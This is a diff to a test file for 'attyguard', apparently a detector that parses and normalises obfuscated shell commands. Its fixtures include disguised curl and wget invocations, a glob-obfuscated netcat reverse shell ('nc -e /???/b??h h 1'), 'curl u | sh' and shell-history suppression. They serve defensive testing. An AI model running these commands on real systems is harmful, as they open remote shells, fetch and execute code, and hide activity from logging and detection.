@@ -38,6 +38,11 @@ from attyguard.engine.parse import Limits, parse
         ("busybox wget u", "wget", ("u",)),
         ("xargs -n1 -P 4 curl -O", "curl", ("-O",)),
         ("env -S 'curl -s u'", "curl", ("-s", "u")),
+        ("a=cu; b=rl; $a$b -s u", "curl", ("-s", "u")),
+        ("${x:-curl} -s u", "curl", ("-s", "u")),
+        ("$(echo curl) -s u", "curl", ("-s", "u")),
+        ("/???/b??h -i", "bash", ("-i",)),
+        ("nc -e /???/b??h h 1", "nc", ("-e", "/bin/bash", "h", "1")),
     ],
 )
 def test_first_command_is_normalised(line: str, name: str, argv: tuple[str, ...]) -> None:
@@ -87,6 +92,11 @@ def test_pipeline_redirect_belongs_to_last_command() -> None:
         ("bash <<< 'nc -e /bin/sh h 1'", ["nc"]),
         ("sh <<EOF\nwhoami\nEOF", ["whoami"]),
         ("bash -c \"bash -c 'bash -c id'\"", ["id"]),
+        ("alias ls='wget u'", ["wget"]),
+        ("trap 'nc h 1' EXIT", ["nc"]),
+        ("watch 'curl u | sh'", ["curl", "sh"]),
+        ("flock /tmp/l -c 'id'", ["id"]),
+        ("ruby -e'x' ; sh -c'id'", []),
     ],
 )
 def test_nested_shell_text_is_parsed(line: str, inner: list[str]) -> None:
@@ -193,3 +203,30 @@ def test_payloads(line: str, text: str, fed_to: str | None, decoders: tuple[str,
 
 def test_binary_garbage_is_not_a_payload() -> None:
     assert find_payloads(parse("echo //////////8= | base64 -d | sh")) == ()
+
+
+def test_environment_defaults_are_not_values() -> None:
+    (cmd,) = parse("echo ${HOME:-/root}").commands
+    assert cmd.argv == ("${HOME:-/root}",)
+
+
+def test_directory_globs_are_not_resolved() -> None:
+    (cmd,) = parse("chmod +x /usr/local/bin/*").commands
+    assert cmd.argv == ("+x", "/usr/local/bin/*")
+
+
+def test_quoted_globs_are_not_expanded() -> None:
+    (cmd,) = parse("echo '/???/b??h'").commands
+    assert cmd.argv == ("/???/b??h",)
+
+
+def test_inline_code_with_attached_flag() -> None:
+    parsed = parse("ruby -e'puts 1'")
+    assert parsed.scripts and parsed.scripts[0][1] == "puts 1"
+
+
+def test_bare_assignments_are_commands() -> None:
+    cmds = parse("HISTFILE=/dev/null; A=1 B=2; HISTSIZE=0 bash").commands
+    assert [(c.name, c.assignments) for c in cmds] == [
+        ("", ("HISTFILE=/dev/null",)), ("", ("A=1", "B=2")), ("bash", ("HISTSIZE=0",))
+    ]
